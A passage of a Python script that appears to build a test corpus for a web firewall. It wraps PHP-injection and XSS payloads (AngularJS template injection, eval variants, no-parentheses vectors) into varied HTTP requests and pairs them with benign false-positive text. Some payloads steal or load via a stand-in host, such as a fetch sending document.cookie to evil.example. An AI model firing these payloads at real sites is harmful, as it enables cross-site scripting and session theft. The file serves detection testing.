    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "<div ng-app ng-csp><input autofocus ng-focus=\"$event.view.alert(1)\">",
    "{{$eval.constructor('alert(1)')()}}",
    "%7B%7Bconstructor.constructor(%27alert(1)%27)()%7D%7D",
    "{{ 'a'.constructor.fromCharCode(88) }}",
    "{{$new.constructor('alert(1)')()}}",
    "<div ng-app>{{$on.constructor('alert(document.cookie)')()}}</div>",
]

JS_METHOD = [
    "eval(\"alert(1)\")",
    "setTimeout('alert(1)',0)",
    "setInterval(\"alert(1)\",100)",
    "new Function(\"alert(1)\")()",
    "window.execScript(\"alert(1)\")",
    "alert(document.domain)",
    "prompt(1)",
    "confirm (1)",
    "atob('YWxlcnQoMSk=')",
    "Function('alert(1)')()",
    "eval/**/('alert(1)')",
    "import('//evil.example/x.js')",
    "fetch('//evil.example/?c='+document.cookie)",
    "%65val(%22alert(1)%22)",
]

JS_NO_PARENS = [
    "alert`1`",
    "[].sort.call`${alert}1337`",
    "[].map.call`${eval}\\u{61}lert\\x281337\\x29`",
    "onerror=alert;throw 1",
    "window.onerror=eval;throw'=alert\\x281\\x29'",
    "setTimeout`alert\\u00281\\u0029`",
    "{onerror=alert}throw 1",
    "throw onerror=alert,1",
    "location='javascript:alert%281%29'",
    "eval.call`${'alert\\x281\\x29'}`",
    "<svg onload=alert&#96;1&#96;>",
    "top['al'+'ert']`1`",
    "location=name",
    "'-alert`1`-'",
]

# (category, sub, payloads)
TITLES: list[tuple[str, str, list[str]]] = [
    ("php", "php-open-tag", PHP_OPEN_TAG),
    ("php", "php-script-file-upload", PHP_UPLOAD_NAMES),
    ("php", "php-configuration-directive", PHP_CONFIG),
    ("php", "php-variables", PHP_VARIABLES),
    ("php", "php-io-stream", PHP_IO_STREAM),
    ("php", "php-wrapper-scheme", PHP_WRAPPER),
    ("php", "php-high-risk-function-name", PHP_HIGH_RISK_NAMES),
    ("php", "php-high-risk-function-call", PHP_HIGH_RISK_CALLS),
    ("php", "php-serialized-object-injection", PHP_SERIALIZED),
    ("php", "php-variable-function-call", PHP_VAR_CALL),
    ("php", "php-variable-function-call-string-callee", PHP_STRING_CALLEE),
    ("php", "php-medium-risk-function-name", PHP_MEDIUM_NAMES),
    ("xss", "xss-libinjection", XSS_LIBINJECTION),
    ("xss", "xss-libinjection-referer-path", XSS_LIBINJECTION_PL2),
    ("xss", "xss-script-tag-vector", XSS_SCRIPT_TAG),
    ("xss", "xss-event-handler-vector", XSS_EVENT_HANDLER),
    ("xss", "xss-attribute-vector", XSS_ATTRIBUTE_VECTOR),
    ("xss", "xss-javascript-uri-vector", XSS_JS_URI),
    ("xss", "noscript-html-injection", NOSCRIPT_HTML),
    ("xss", "noscript-attribute-injection", NOSCRIPT_ATTRIBUTE),
    ("xss", "node-validator-blacklist-keywords", NODE_VALIDATOR),
    ("xss", "ie-xss-style-import-expression", IE_STYLE),
    ("xss", "ie-xss-vmlframe", IE_VMLFRAME),
    ("xss", "ie-xss-obfuscated-javascript", IE_OBF_JS),
    ("xss", "ie-xss-obfuscated-vbscript", IE_OBF_VBS),
    ("xss", "ie-xss-embed", IE_EMBED),
    ("xss", "ie-xss-import-implementation", IE_IMPORT),
    ("xss", "ie-xss-meta-http-equiv", IE_META_EQUIV),
    ("xss", "ie-xss-meta-charset", IE_META_CHARSET),
    ("xss", "ie-xss-link-href", IE_LINK),
    ("xss", "ie-xss-base-href", IE_BASE),
    ("xss", "ie-xss-applet", IE_APPLET),
    ("xss", "ie-xss-object", IE_OBJECT),
    ("xss", "us-ascii-malformed-encoding-xss", US_ASCII),
    ("xss", "utf7-encoding-ie-xss", UTF7),
    ("xss", "jsfuck-hieroglyphy-obfuscation", JSFUCK),
    ("xss", "javascript-global-variable", JS_GLOBAL),
    ("xss", "xss-disallowed-html-attributes", XSS_DISALLOWED_ATTR),
    ("xss", "html-tag-handler", HTML_TAG_HANDLER),
    ("xss", "ie-xss-quote-property-assignment", IE_QUOTE_PROP),
    ("xss", "ie-xss-quote-bracket-assignment", IE_QUOTE_BRACKET),
    ("xss", "angularjs-template-injection", ANGULAR),
    ("xss", "javascript-method-detected", JS_METHOD),
    ("xss", "xss-function-without-parentheses", JS_NO_PARENS),
]

# --- placements -----------------------------------------------------------------------------------------------

REAL_PLACES = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Comment",
               "param-name", "xml", "multipart-field", "path"]
RS_PLACES = ["rs-query", "rs-form", "rs-json", "rs-cookie", "rs-header:User-Agent", "rs-xml", "rs-query-raw",
             "rs-header:Referer", "rs-raw-body", "rs-header:X-Test"]
FILE_REAL = ["multipart-filename", "header:X-Filename"]
FILE_RS = ["rs-multipart-filename", "rs-header:X-File-Name"]
PL2_REAL = ["header:Referer", "path"]
PL2_RS = ["rs-header:Referer", "rs-path"]
RS_GET_PATHS = ["/", "/index.php", "/get", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_POST_PATHS = ["/post", "/index.php", "/", "/api/v1/items", "/cgi-bin/test.cgi", "/search"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
REAL_NAMES = ["q", "name", "bio", "title", "comment", "callback", "redirect", "file", "template", "lang"]
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
ENCODED = re.compile(r"%[0-9A-Fa-f]{2}")
LOOSE_SAFE = "/:;,()'!*=$@[]{}<>\"`|^~?\\"


def _pre_encoded(p: str) -> bool:
    return bool(ENCODED.search(p))


def _enc(p: str, safe: str = "") -> str:
    """The value as a server receives it in a URL or a form: quoted, or when already URL-encoded as is but for the
    characters a URL cannot carry (space, #, controls, non-ASCII)."""
    if not _pre_encoded(p):
        return urllib.parse.quote(p, safe=safe)
    return "".join(urllib.parse.quote(ch, safe="") if ch in " #" or not 0x20 < ord(ch) < 0x7f else ch for ch in p)


def _cookie_value(p: str) -> str:
    out = []
    for ch in p:
        out.append(urllib.parse.quote(ch, safe="") if ch in "; ,\t\n\r" or not ch.isascii() else ch)
    return "".join(out)


def _header_ok(p: str) -> bool:
    return not any(ch in p for ch in "\r\n\t\0")


def _allowed(place: str, p: str, jsonish: bool) -> bool:
    base = place.removeprefix("rs-")
    if jsonish:
        return base == "json"
    if base.startswith("header:") or base == "cookie":
        return _header_ok(p)
    if _pre_encoded(p):
        return base not in ("json", "xml", "multipart-field")
    return True


def _xml_wrap(p: str) -> str:
    if "<" in p or "&" in p:
        if "]]>" in p:
            return p.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        return "<![CDATA[" + p + "]]>"
    return p


def _headers(extra: dict[str, str] | None = None, ua: str = UA) -> dict[str, str]:
    return {"User-Agent": ua, "Accept": "*/*", **(extra or {})}


def _multipart(fields: list[tuple[str, str]], file: tuple[str, str, str] | None) -> tuple[str, str]:
    """A multipart/form-data body of text fields and one file part (field, filename, content); (body, type)."""
    parts = []
    for name, value in fields:
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
    if file:
        field, filename, content = file
        filename = filename.replace("\"", "%22")
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"{filename}\"\r\n"
                     f"Content-Type: application/octet-stream\r\n\r\n{content}\r\n")
    return "".join(parts) + f"--{BOUNDARY}--\r\n", f"multipart/form-data; boundary={BOUNDARY}"


def _json_body(doc: dict[str, Any], key: str, p: str, jsonish: bool) -> str:
    """doc with p under key; a JSON-escaped payload goes in unescaped so the parser decodes its escapes."""
    if not jsonish:
        return json.dumps({**doc, key: p}, ensure_ascii=False)
    return json.dumps({**doc, key: "@@P@@"}, ensure_ascii=False).replace("\"@@P@@\"", "\"" + p + "\"")


def _real(place: str, p: str, jsonish: bool, k: int) -> dict[str, Any]:
    name = REAL_NAMES[k % len(REAL_NAMES)]
    if place == "query":
        return _get("/api/users?" + name + "=" + _enc(p) + "&page=1")
    if place == "form":
        body = "csrf_token=t0k3n&" + name + "=" + _enc(p)
        return {**_form("/admin/users/search", []), "body": body}
    if place == "json":
        rec = _json("/api/users", {})
        return {**rec, "body": _json_body({"email": "ann@example.org"}, name, p, jsonish)}
    if place == "cookie":
        return {**_get("/api/users?page=1"),
                "headers": _headers({"Cookie": "session=abc123; prefs=" + _cookie_value(p)})}
    if place == "header:User-Agent":
        return {**_get("/api/users?page=1"), "headers": _headers(ua=p)}
    if place == "header:Referer":
        return {**_get("/api/users?page=1"), "headers": _headers({"Referer": p})}
    if place == "header:X-Comment":
        return {**_get("/api/users/42"), "headers": _headers({"X-Comment": p})}
    if place == "header:X-Filename":
        return {"method": "PUT", "uri": "/api/users/42/avatar", "body": "GIF89a",
                "headers": _headers({"Content-Type": "application/octet-stream", "X-Filename": p})}
    if place == "param-name":
        return _get("/api/users?" + _enc(p) + "=1&page=1")
    if place == "xml":
        body = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><user><name>Ann</name><" + name + ">" + _xml_wrap(p)
                + "</" + name + "></user>")
        return {"method": "POST", "uri": "/api/users", "body": body,
                "headers": _headers({"Content-Type": "application/xml"})}
    if place == "multipart-field":
        body, ctype = _multipart([("csrf_token", "t0k3n"), (name, p)], ("file", "users.csv", "name,email\n"))
        return {"method": "POST", "uri": "/admin/users/import", "body": body,
                "headers": _headers({"Content-Type": ctype})}
    if place == "multipart-filename":
        body, ctype = _multipart([("csrf_token", "t0k3n")], ("avatar", p, "GIF89a\x01\x00"))
        return {"method": "POST", "uri": "/api/users/42/avatar", "body": body,
                "headers": _headers({"Content-Type": ctype})}
    if place == "path":
        return _get("/api/users/" + _enc(p))
    raise ValueError(place)


def _rs(place: str, p: str, jsonish: bool, k: int) -> dict[str, Any]:
    name = RS_NAMES[k % len(RS_NAMES)]
    gpath = RS_GET_PATHS[k % len(RS_GET_PATHS)]
    ppath = RS_POST_PATHS[k % len(RS_POST_PATHS)]
    if place == "rs-query":
        return _get(gpath + "?" + name + "=" + _enc(p, LOOSE_SAFE))
    if place == "rs-query-raw":
        return _get(gpath + "?" + _enc(p, LOOSE_SAFE))
    if place == "rs-form":
        return {"method": "POST", "uri": ppath, "body": name + "=" + _enc(p),
                "headers": _headers({"Content-Type": "application/x-www-form-urlencoded"})}
    if place == "rs-raw-body":
        return {"method": "POST", "uri": ppath, "body": p,
                "headers": _headers({"Content-Type": "application/x-www-form-urlencoded"})}
    if place == "rs-json":
        return {"method": "POST", "uri": ppath, "body": _json_body({}, name, p, jsonish),
                "headers": _headers({"Content-Type": "application/json"})}
    if place == "rs-xml":
        body = "<?xml version=\"1.0\"?><root><" + name + ">" + _xml_wrap(p) + "</" + name + "></root>"
        return {"method": "POST", "uri": ppath, "body": body, "headers": _headers({"Content-Type": "text/xml"})}
    if place == "rs-cookie":
        return {**_get(gpath), "headers": _headers({"Cookie": name + "=" + _cookie_value(p)})}
    if place == "rs-header:User-Agent":
        return {**_get(gpath), "headers": _headers(ua=p)}
    if place == "rs-header:Referer":
        return {**_get(gpath), "headers": _headers({"Referer": p})}
    if place == "rs-header:X-Test":
        return {**_get(gpath), "headers": _headers({"X-Test": p})}
    if place == "rs-header:X-File-Name":
        return {"method": "POST", "uri": "/upload.php", "body": "<?php echo 1; ?>",
                "headers": _headers({"Content-Type": "application/octet-stream", "X-File-Name": p})}
    if place == "rs-multipart-filename":
        body, ctype = _multipart([("submit", "Upload")], ("file", p, "GIF89a"))
        return {"method": "POST", "uri": ppath, "body": body, "headers": _headers({"Content-Type": ctype})}
    if place == "rs-path":
        return _get("/index.php/" + _enc(p, "/"))
    raise ValueError(place)


def _pick(places: list[str], start: int, p: str, jsonish: bool) -> str:
    for d in range(len(places)):
        place = places[(start + d) % len(places)]
        if _allowed(place, p, jsonish):
            return place
    return places[start % len(places)]


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    turn = 0
    for category, sub, payloads in TITLES:
        for raw in payloads:
            jsonish = raw.startswith(JSON_MARK)
            p = raw.removeprefix(JSON_MARK)
            if sub == "php-script-file-upload":
                real_places, rs_places = FILE_REAL, FILE_RS
            elif sub == "xss-libinjection-referer-path":
                real_places, rs_places = PL2_REAL, PL2_RS
            else:
                real_places, rs_places = REAL_PLACES, RS_PLACES
            real = _pick(real_places, turn, p, jsonish)
            rs = _pick(rs_places, turn, p, jsonish)
            for place, rec in ((real, _real(real, p, jsonish, turn)),
                               (rs, _rs(rs, p, jsonish, turn))):
                n += 1
                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": place, "payload": p}
            turn += 1


# --- benign -----------------------------------------------------------------------------------------------------

SLACK_TEXTS = [
    "anyone else seeing `<?php` show up raw in the blog preview? looks like the template engine skipped it",
    "php 8.3 upgrade is done on staging, php-fpm restarted cleanly",
    "reminder: never call system() with user input, use escapeshellarg at the very least",
    "the legacy admin still uses eval in one spot, ticket PLAT-2211 removes it",
    "our composer.json pins guzzlehttp/guzzle ^7.8",
    "php.ini on the new box has display_errors off and log_errors on, as it should",
    "allow_url_include is off everywhere, I checked all three pools",
    "the $_GET vs $_POST question in the interview went well",
    "wordpress plugin update broke the shortcode, rolling back",
    "php://stdin is how the CLI importer reads the csv, fyi",
    "phar files for deployer live in tools/bin",
    "serialize() in the cache layer is being replaced with json_encode",
    "can someone review my PR? it touches the upload controller (only .jpg .png .pdf allowed)",
    "shell_exec is disabled in disable_functions on shared hosting, that's why the job fails",
    "the function name is base64_decode, not b64decode, in PHP",
    "we moved file_put_contents calls behind the storage interface",
    "is chmod 644 right for the config files? yes, and 755 for dirs",
    "unlink the temp file after the upload is processed",
    "mkdir -p storage/logs before the first deploy",
    "the ini_set for memory_limit is in bootstrap.php",
    "the <script> tag in the newsletter template needs the nonce attribute",
    "onload handlers are banned by our CSP, use addEventListener",
    "img onerror fallback is replaced by the srcset approach",
    "the XSS talk at OWASP meetup was great, slides shared in #security",
    "javascript: links are stripped by the markdown renderer, good",
    "document.cookie isn't readable anymore since we set HttpOnly",
    "innerHTML vs textContent - please use textContent for user data",
    "window.location redirect after login goes to /dashboard",
    "the <iframe> for the youtube embed needs allowfullscreen",
    "<style> blocks in emails get stripped by gmail, inline them",
    "our angular app uses {{ user.name }} in the header component",
    "the handlebars template shows {{title}} when the data is missing",
    "jinja {% if user %} block is broken in the footer",
    "vue's v-html is off-limits in code review, use {{ }} interpolation",
    "meta charset utf-8 is missing on the landing page, SEO tool complained",
    "add <meta name=\"viewport\"> to the new page please",
    "the <base href> in the angular index.html has to be /app/",
    "link rel=preload for the font fixed the CLS score",
    "the embed code for the survey is in the wiki",
    "the applet support was dropped from browsers years ago, remove that FAQ",
    "object-fit: cover on the avatars looks much better",
    "the UTF-7 bug report was a false alarm, it's utf-8 everywhere",
    "the JSFuck demo at the meetup was wild, only six characters",
    "setTimeout(fn, 0) trick for the render queue is in utils.js",
    "eval is flagged by eslint no-eval, keep the rule on",
    "alert() dialogs are replaced by the toast component",
    "prompt and confirm are gone from the admin UI too",
    "the style guide says 2 spaces, no tabs",
    "background image on the hero is too large, compress it",
    "VML was an old IE thing, the charting lib dropped it",
    "vbscript macros in the finance spreadsheet need review",
    "the import implementation in the payments module is done",
    "object data in the report shows null for March",
    "window.name is used by the old SSO iframe, careful",
    "parent and self are reserved words in our DSL, rename the fields",
    "top of the hour standup moved to 10:15",
    "the frames per second metric is on the grafana board",
    "this['key'] style access is fine in TS when the key is dynamic",
    "document['title'] is set by the router",
    "the onboarding doc says: run `make dev` then open localhost:8080",
    "O'Reilly's PHP cookbook is on the shared shelf",
    "a:hover color is wrong in dark mode",
    "O:5 ratio for the banner? no, 16:9",
    "price list: $5 basic, $10 pro, $20 team",
    "the PHP_EOL constant fixes the line endings on windows",
    "I'll be out Friday; ping @maria for the release",
    "our CI runs phpunit, phpstan level 8, and psalm",
    "the CSV import handles names like Zoë and José now",
    "the expect library for tests is chai, not jest's expect",
    "glob patterns in the .gitignore are wrong for /vendor",
    "zip of the export is in the drive, password in 1password",
    "the data: URLs for icons are inlined by webpack",
    "compress the logs before uploading them to the ticket",
    "ssh into the bastion, then to the db host",
    "the rar file from the vendor didn't open, asked for a zip",
    "ogg audio doesn't play on safari, convert to mp3",
    "we call the callback with the result, node style",
    "the user agent string of the bot looks like curl/8.4.0",
    "the referer header is dropped by our privacy policy on outbound links",
    "new cookie banner copy is approved by legal",
    "the form action points at /subscribe now",
    "the button text should say \"Submit\" not \"Go\"",
    "the marquee effect on the 90s theme page is intentional lol",
    "<b>bold</b> and <i>italic</i> are the only tags allowed in comments",
    "the textarea autofocus hurts accessibility, removing it",
    "the select dropdown needs keyboard support",
    "the h1 on the pricing page is duplicated",
    "the font color contrast fails WCAG AA",
    "audio autoplay is off by default now",
    "layer 7 load balancer config is in terraform",
    "plaintext passwords were never stored, we use argon2id",
    "the xml import accepts UTF-8 only",
    "our xmlns for the sitemap is the standard one",
    "<!-- TODO --> comments in templates get shipped to prod, strip them",
    "CDATA sections in the RSS feed are fine",
    "the -moz- prefixes can go, firefox supports the standard props",
    "parentNode.removeChild is old school, use element.remove()",
    "window.location.href vs location.assign, same thing really",
    "expression() in CSS was IE only, the linter flags it",
    "@import in CSS slows the page, bundle instead",
    "behavior: url() was IE too, drop it from the legacy stylesheet",
    "ng-app on the body tag is from the old angularjs app",
    "the $on listener in the angularjs controller leaks, destroy it",
    "constructor injection is the preferred style in our services",
    "the toString override on the Money class is handy",
    "fromCharCode is only used in the barcode util",
    "atob and btoa are fine for ascii only",
    "fetch('/api/users') returns 401 without the token",
    "import() lazy loads the charts bundle",
    "throw new Error is better than throwing strings",
    "the onerror handler reports to sentry",
    "location=us-east-1 in the terraform vars",
    "template literals with backticks are fine, `Hello ${name}` style",
    "sort.call on the NodeList needs Array.from first",
    "the regex /al/ matches both 'alpha' and 'always'",
    "the frameset layout is gone from the docs site",
    "isindex is deprecated, nobody uses it",
    "srcdoc on the preview iframe is sandboxed",
    "dynsrc and lowsrc are ancient attributes, ignore the lint",
    "the bgsound tag is from IE, not supported",
    "xlink:href in our SVG icons still works",
    "formaction on the secondary button posts to /drafts",
    "the pattern attribute on the zip code field is [0-9]{5}",
    "data:text/plain links in the export are fine",
    "the charset parameter in Content-Type should be utf-8",
    "http-equiv refresh is an anti-pattern, use a 301",
    "the set-cookie header has SameSite=Lax now",
    "the content security policy blocks inline scripts",
    "I renamed shell.php to cli.php in the tooling repo",
    "the admin uploads folder only accepts images",
    "the .phtml templates in the old zend app are being migrated",
    "our php5 servers were retired in 2019",
    "the source view feature shows .phps files on the dev box only",
    "ftp_connect is used by the legacy partner sync, ugh",
    "curl_exec timeout is 10 seconds now",
    "parse_str without the second argument is deprecated",
    "the posix extension is missing on the windows runners",
    "symlink the storage folder with artisan storage:link",
    "putenv in tests sets APP_ENV=testing",
    "tempnam is used for the pdf renderer scratch files",
    "move_uploaded_file is wrapped by the framework's UploadedFile",
    "stream_socket_client for the redis fallback, don't ask",
    "fwrite and fputs are aliases in PHP",
    "the pcntl extension is only on the worker image",
    "popen is used by the pdf pipeline to talk to ghostscript",
    "proc_open replaced exec in the thumbnailer",
    "phpinfo page was removed from the staging server",
    "create_function is gone in PHP 8, closures everywhere",
    "gzuncompress handles the legacy cache blobs",
    "str_rot13 is used in the easter egg, harmless",
    "fsockopen health check to the mail server",
    "call_user_func_array for the event dispatcher, it's fine",
    "passthru is used to stream the backup to the browser",
    "$argv parsing in the CLI uses symfony console now",
    "$GLOBALS access was removed in the refactor",
    "the $_SESSION handler stores in redis",
    "php_value lines in .htaccess don't work with php-fpm",
    "open_basedir restricts the app to /var/www",
    "register_globals was removed ages ago, relax",
    "magic_quotes_gpc is a PHP 5 memory",
    "the error_log path is /var/log/php/error.log",
    "safe_mode was dropped in PHP 5.4",
    "suhosin isn't available for PHP 8",
    "enable_dl is off, we build extensions into the image",
    "auto_prepend_file loads the APM agent in prod",
    "our python service uses subprocess.run, not os.system",
    "the Java app logs with log4j 2.23",
    "the node API uses express 4 and helmet",
    "IIS on the old intranet box still serves the HR portal",
    "the CGI scripts in /cgi-bin are perl, from 2003",
    "Joomla site for the alumni association is on 5.1",
    "Drupal 10 migration is scheduled for Q3",
    "the Laravel queue worker restarted after deploy",
    "Monolog handlers send errors to Slack",
    "ArrayObject is handy for the legacy config wrapper",
    "SplObjectStorage keeps the listeners unique",
    "the stdClass casts in the API layer are gone",
    "the JSON API returns {\"ok\": true} on success",
]

SEARCHES = [
    "php developer", "javascript tutorial", "script writer", "event handler", "style guide", "meta description",
    "base price", "link building", "object storage", "applet", "embed video", "import csv", "vbscript macro",
    "angular developer", "vue", "react hooks", "system administrator", "shell scripting", "eval board",
    "serialized data", "php 8 upgrade", "alert fatigue", "prompt engineering", "confirm email", "window cleaner",
    "top sellers", "parent company", "self service", "frames per second", "document management",
    "cookie policy", "location services", "href lang", "src directory", "onboarding", "online store",
    "onsite training", "expression of interest", "behavior analysis", "charset utf-8", "utf 7", "utf-8",
    "javascript developer remote", "node validator", "node.js", "iframe embed", "form builder", "input validation",
    "font pairing", "marquee sign", "textarea autosize", "select box", "h1 heading", "table layout",
    "audio engineer", "video editor", "svg icons", "math teacher", "details summary", "button design",
    "phar lap", "zip code 10001", "data scientist", "glob", "expect", "compress images", "rar files",
    "ssh keys", "ogg vorbis", "zlib", "input method", "output", "memory", "temp agency", "filter coffee",
    "stdin", "fd", "cmd", "exec committee", "executive assistant", "passthrough", "popular", "chmod calculator",
    "unlink account", "symlink", "fwrite", "curl", "ftp", "mail merge", "header image", "extract zip",
    "serialize", "stdclass", "O'Neil", "D'Angelo", "Mc'Donald", "Anne-Marie", "José Álvarez", "Zoë Kravitz",
    "Björk", "Renée", "smith & sons", "AT&T", "Q&A", "100% cotton", "C# developer", "C++", ".NET core",
    "node-red", "<3", "a < b", "x > y", "1+1", "user@example.org", "#general", "@channel", "~/notes",
    "2024-05-01", "$100 gift card", "50% off", "ratio 3:2", "version 1.2.3", "v2.0 (beta)", "[draft]",
    "{placeholder}", "null", "undefined", "true", "NaN",
]

PROSE = [
    "Please update the script for the onboarding video; the event handler section is too long.",
    "The style of the new brochure is great, but the base price on page 2 is wrong.",
    "Our system administrator will exec the maintenance plan on Sunday.",
    "The document was signed by the parent company and sent to the top management.",
    "Window installation is scheduled for Monday; location: building B, frame 4.",
    "Please confirm the alert thresholds before the prompt review.",
    "The object of the meeting is to embed the applet lessons into the curriculum.",
    "We import the data from the legacy system every night.",
    "The link in the footer points to the old charset documentation.",
    "Her expression of interest was received; the behavior survey follows.",
    "Evaluation of the new eval board is complete, see the attached report.",
    "Self-service kiosks are at the entrance; the frames are aluminium.",
    "The PHP team meets on Tuesdays; the JavaScript team on Wednesdays.",
    "Our Angular app shows the user's name in the header, and the Vue app in the sidebar.",
    "The serialized numbers on the devices are listed in the appendix.",
    "The cookie jar in the kitchen is empty again.",
    "The movie script has a scene where the hero types on a laptop.",
    "The onboarding checklist includes a link to the style guide.",
    "Please use the form on the intranet to request a new laptop.",
    "The input from the customer advisory board is summarized below.",
    "The output of the workshop is a list of ten action items.",
    "The temp staff start on Monday; their memory of the process is limited.",
    "Filter coffee is available in the lobby from 8am.",
    "The marquee outside the theater announces the premiere.",
    "The textarea in the feedback form is too small.",
    "The select committee will publish its findings next week.",
    "The table in section 3 compares the options.",
    "The audio recording of the call is in the shared drive.",
    "The video of the keynote is online.",
    "The math exam is on Thursday at 9:00.",
    "The details of the contract are confidential.",
    "The button on the elevator panel is broken.",
    "The font on the signage should match the brand.",
    "Layer the sauce and the pasta, then bake for 20 minutes.",
    "Plaintext email is preferred by some recipients.",
    "The base of the lamp is made of oak.",
    "Meta-analysis shows a small effect size.",
    "The applet-style widgets on the old site are gone.",
    "Embed the chart in the slides, please.",
    "The import duties for the shipment were paid.",
    "Our VB script for the spreadsheet sums the totals.",
    "The object storage bill went up in May.",
    "She wrote a script to rename the photos.",
    "The alert came in at 3am, false positive.",
    "Confirm your attendance by Friday.",
    "The prompt reply from support was appreciated.",
    "The parent-teacher meeting is on the 12th.",
    "Top marks for the new design!",
    "The window of opportunity closes in June.",
    "The location of the offsite is a lakeside hotel.",
    "Document everything in the wiki.",
    "The frames for the glasses are titanium.",
    "The system is down for maintenance between 1 and 2am.",
    "Shell Oil sponsored the event.",
    "The executive summary is on page one.",
    "Passthrough costs are billed monthly.",
    "Open the pop-up menu and choose Export.",
    "The mkdir command creates a folder, the teacher explained.",
    "Unlink your account from the old provider first.",
    "Copy the file and rename it to report-final.docx.",
    "Mail the signed form to the HR office.",
    "The header of the letter has the new logo.",
    "Extract the archive and open index.html in a browser.",
    "The sort order of the list is alphabetical.",
    "The map of the campus is at the reception.",
    "Call the front desk for a taxi.",
    "The constructor of the house finished early.",
    "The prototype was shown at the trade fair.",
    "The toString method of the class returns the name.",
    "The apostrophe in O'Brien breaks the old form, fixed now.",
    "Use \"quotes\" around the exact phrase when searching.",
    "Fish & Chips, £8.50; Soup of the day, £4.",
    "The 3 < 5 comparison is true, as the kids learned.",
    "Tickets: adults $12, kids $6, under 3 free.",
    "The ratio 16:9 works for the video; 4:3 for the slides.",
    "Room 2B (second floor) is reserved for the interviews.",
    "The {name} placeholder is replaced by the mail merge.",
    "The [optional] fields can be left blank.",
    "Results: 42 passed; 0 failed; 3 skipped.",
    "Email me at first.last@example.org with questions.",
    "The hashtag #PHPConf trended on Friday.",
    "The team's velocity is 34 points per sprint.",
    "We'll meet at the café near the station.",
    "The résumé of the candidate is attached.",
    "The naïve approach was too slow.",
    "The Straße in the address should be kept as is.",
    "The Tokyo office (東京) opens next month.",
    "The Arabic translation (العربية) is in review.",
    "The emoji 🎉 in the subject line increased opens.",
    "Version 2.1.0 fixes the upload of .docx files.",
    "The file report.pdf was uploaded to the portal.",
    "The backup is called site-backup-2024-05-01.tar.gz.",
    "The invoice number is INV-2024-0042.",
    "Please remove the duplicate entry for ACME Ltd.",
    "The parcel tracking number is 1Z999AA10123456784.",
    "The meeting notes are in the shared folder.",
    "Thanks again for the help with the migration!",
]

PUBLIC_URLS = [
    "https://www.php.net/manual/en/function.system.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/ini.core.php",
    "https://www.php.net/manual/en/language.variables.superglobals.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/API/GlobalEventHandlers/onerror",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/base",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/meta#charset",
    "https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/eval",
    "https://owasp.org/www-community/attacks/xss/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://angular.io/guide/template-syntax",
    "https://docs.angularjs.org/guide/security",
    "https://en.wikipedia.org/wiki/JSFuck",
    "https://en.wikipedia.org/wiki/UTF-7",
    "https://en.wikipedia.org/wiki/Vector_Markup_Language",
    "https://www.w3.org/TR/html52/",
    "https://github.com/laravel/framework/blob/11.x/src/Illuminate/Broadcasting/PendingBroadcast.php",
    "https://github.com/Seldaek/monolog/tree/main/src/Monolog/Handler",
    "https://wordpress.org/plugins/contact-form-7/",
    "https://www.drupal.org/project/drupal/releases/10.2.0",
    "https://docs.joomla.org/J4.x:Developing_an_MVC_Component",
    "https://getcomposer.org/doc/01-basic-usage.md",
    "https://phpunit.de/getting-started/phpunit-10.html",
    "https://example.com/search?q=php+tutorial&page=2",
    "https://shop.example.com/products?category=scripts&sort=price",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://maps.example.org/?location=Main+St+12",
    "https://cdn.example.org/js/app.min.js?v=4.2.1",
    "https://cdn.example.org/css/style.css?v=4.2.1",
    "https://example.com/files/report.pdf",
    "https://example.com/blog/2024/05/why-we-moved-from-php-to-go",
    "https://news.example.com/article/alert-system-upgrade",
    "https://docs.example.com/api/v2/objects/embed",
    "https://example.com/img/base-price-chart.png",
    "https://example.com/?utm_source=newsletter&utm_medium=email&utm_campaign=spring",
    "https://calendar.example.com/event?id=8812&confirm=yes",
    "https://forms.example.com/f/abc123?prefill_name=Ann",
]

PROFILES = [
    {"name": "Seán O'Connor", "bio": "PHP and JavaScript developer; likes hiking.", "city": "Galway"},
    {"name": "Zoë D'Souza", "bio": "Frontend engineer (Angular, Vue, React).", "city": "Mumbai"},
    {"name": "Jean-Luc Picard", "bio": "Captain. Earl Grey, hot.", "city": "La Barre"},
    {"name": "María José García", "bio": "Data scientist at a parent company of three brands.", "city": "Sevilla"},
    {"name": "Ōtani Shōhei", "bio": "Two-way player.", "city": "Los Angeles"},
    {"name": "Anne-Marie Smith", "bio": "Scriptwriter & event planner.", "city": "Bristol"},
    {"name": "Dr. Eval Baker", "bio": "Evaluation consultant for NGOs.", "city": "Nairobi"},
    {"name": "System Admin Team", "bio": "Linux, Windows, IIS, nginx.", "city": "Remote"},
    {"name": "Base Camp Outfitters", "bio": "Gear for the top of the world.", "city": "Kathmandu"},
    {"name": "Object Lessons Ltd", "bio": "We embed learning into everyday work.", "city": "Leeds"},
    {"name": "Import Export Co.", "bio": "Imports from Asia, exports to the EU.", "city": "Rotterdam"},
    {"name": "Window & Door Pros", "bio": "Frames, glass and locks since 1987.", "city": "Ohio"},
    {"name": "The Style Studio", "bio": "Hair, make-up and style advice.", "city": "Paris"},
